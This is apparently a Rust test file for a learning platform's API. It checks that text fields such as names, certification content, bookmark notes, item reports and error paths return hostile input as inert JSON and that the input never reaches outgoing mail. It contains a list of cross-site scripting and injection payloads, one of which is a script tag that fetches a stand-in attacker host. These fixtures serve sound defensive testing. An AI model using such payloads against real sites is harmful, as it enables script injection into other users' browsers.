//! Text that wants to be a script: every field that takes text gives it back as what it is, in answers that no browser runs.

use learnr::store::RoleName;
use learnr_protocol::account::AccountView;
use learnr_protocol::history::SessionAnswers;
use learnr_protocol::keeping::{BookmarkPage, ItemReportPage};
use learnr_protocol::rest::CertificationList;
use learnr_protocol::{Encoding, SessionKind};
use reqwest::{Method, Response};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

use super::headers::runs_nothing;
use super::{post, send, served, stored};
use crate::harness::mailbox::Mailbox;
use crate::harness::{Client, Server, demonstration};

/// Short enough to be a name.
const HOSTILE: [&str; 6] = [
    "<script>fetch('//evil.example')</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{202e}gnp.exe\u{2066}=HYPERLINK(\"x\")",
];

/// What a reply holds, once it is found to be data that no browser runs.
async fn data<T: DeserializeOwned>(reply: Response) -> T {
    let status = reply.status();
    assert_eq!(reply.headers()["content-type"], "application/json");
    let faults = runs_nothing(reply.headers());
    assert!(faults.is_empty(), "{faults:?}");
    let text = reply.text().await.expect("a body");
    serde_json::from_str(&text).unwrap_or_else(|error| panic!("{status} {text}: {error}"))
}

async fn get<T: DeserializeOwned>(server: &Server, path: &str, token: &str) -> T {
    data(send(server, (Method::GET, path), Some(token), &Value::Null).await).await
}

/// A certification whose every text is this one.
pub(super) fn certification(text: &str) -> Value {
    let option = |n: usize, m: usize| {
        json!({
            "text": format!("{m} {text}"), "correct": m == n % 3, "explanation": format!("{m} {n} {text}"),
        })
    };
    let item = |n: usize| {
        json!({
            "id": format!("hostile-{n}"), "area": "all", "difficulty": "medium", "stem": format!("{n} {text}"),
            "options": (0..3).map(|m| option(n, m)).collect::<Vec<_>>(),
        })
    };
    json!({
        "certification": {
            "id": "hostile", "title": text, "description": text, "pass_mark": 0.65, "exam": {"items": 6, "minutes": 6},
            "areas": [{"id": "all", "title": text, "weight": 1.0}],
        },
        "items": (0..6).map(item).collect::<Vec<_>>(),
    })
}

#[actix_rt::test]
async fn a_name_is_given_back_as_it_was_written_and_stands_in_no_mail() {
    let (server, mailbox) = served("off").await;
    let (_, token) = stored(&server, &[], None).await;
    for (number, text) in HOSTILE.iter().enumerate() {
        let to = (Method::PATCH, "/v1/account");
        let reply = send(&server, to, Some(&token), &json!({"name": text})).await;
        let changed: AccountView = data(reply).await;
        let account: AccountView = get(&server, "/v1/account", &token).await;
        assert_eq!([changed.name.as_str(), account.name.as_str()], [*text; 2]);
        no_mail_has(&server, &mailbox, (number, text)).await;
    }
    server.stop().await;
}

async fn no_mail_has(server: &Server, mailbox: &Mailbox, (number, name): (usize, &str)) {
    let email = format!("somebody-{number}@example.org");
    let body = json!({"email": email, "name": name});
    let reply = post(server, "/v1/auth/register", &body).await;
    assert_eq!(reply.status(), 202);
    let mail = mailbox.mail(&email, 1).await;
    assert!(!mail.text.contains(name), "{}", mail.text);
}

#[actix_rt::test]
async fn what_a_certification_says_is_data_wherever_it_is_told() {
    for text in HOSTILE {
        let server = Server::flagged(&["--rate-limits", "off"]).await;
        server.import(&certification(text)).await;
        let listed = server.rest.request(Method::GET, "/v1/certifications", None);
        let listed: CertificationList = data(listed.send().await.expect("a reply")).await;
        let mut listed = listed.certifications.iter();
        let hostile = listed.find(|certification| certification.id == "hostile");
        let hostile = hostile.expect("it is listed");
        assert_eq!(
            (hostile.title.as_str(), hostile.description.as_str()),
            (text, text)
        );
        let mut client = practice(&server).await;
        let question = client.question();
        assert!(question.stem.ends_with(text), "{}", question.stem);
        client.answer(&question).await;
        let path = format!("/v1/sessions/{}/answers", client.session);
        let answered: SessionAnswers = get(&server, &path, &client.token).await;
        let told = answered
            .answers
            .iter()
            .all(|answer| answer.stem.ends_with(text));
        assert!(told && answered.answers.len() == 1);
        server.stop().await;
    }
}

async fn practice(server: &Server) -> Client {
    let mut create = demonstration(SessionKind::Practice);
    create.certification = "hostile".to_owned();
    create.length = Some(5);
    server.client(&create, Encoding::Json).await
}

#[actix_rt::test]
async fn notes_are_given_back_as_they_were_written_to_their_learner_and_to_authors() {
    let (server, _mailbox) = served("off").await;
    server.import(&certification("Plain")).await;
    let (_, author) = stored(&server, &[RoleName::Author], Some("hostile")).await;
    let mut client = practice(&server).await;
    let question = client.question();
    client.answer(&question).await;
    let (token, item) = (client.token.clone(), &question.item_id);
    for text in HOSTILE {
        let mark = format!("/v1/certifications/hostile/bookmarks/{item}");
        let to = (Method::PUT, mark.as_str());
        let marked = send(&server, to, Some(&token), &json!({"note": text})).await;
        assert_eq!(marked.status(), 204);
        let list = "/v1/certifications/hostile/bookmarks";
        let page: BookmarkPage = get(&server, list, &token).await;
        assert_eq!(page.bookmarks[0].note, text);
        let report = format!("/v1/certifications/hostile/items/{item}/reports");
        let to = (Method::POST, report.as_str());
        let body = json!({"reason": "other", "note": text});
        let reported = send(&server, to, Some(&token), &body).await;
        assert_eq!(reported.status(), 202);
        let list = "/v1/certifications/hostile/reports";
        let page: ItemReportPage = get(&server, list, &author).await;
        assert_eq!(page.reports[0].note, text);
    }
    server.stop().await;
}

#[actix_rt::test]
async fn an_error_that_repeats_what_was_asked_is_data_as_well() {
    let (server, _mailbox) = served("off").await;
    let (_, token) = stored(&server, &[], None).await;
    let script = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    for path in [
        format!("/v1/{script}"),
        format!("/{script}.html"),
        format!("/v1/sessions?status={script}"),
        format!("/v1/sessions/history?{script}=1"),
        format!("/v1/certifications/x/activity?from={script}"),
    ] {
        let body: Value = get(&server, &path, &token).await;
        assert!(body["error"]["message"].is_string(), "{path}");
    }
    let body = json!({"<script>alert(1)</script>": 1});
    let to = (Method::PATCH, "/v1/account");
    let body: Value = data(send(&server, to, Some(&token), &body).await).await;
    assert_eq!(body["error"]["code"], "bad_request");
    server.stop().await;
}
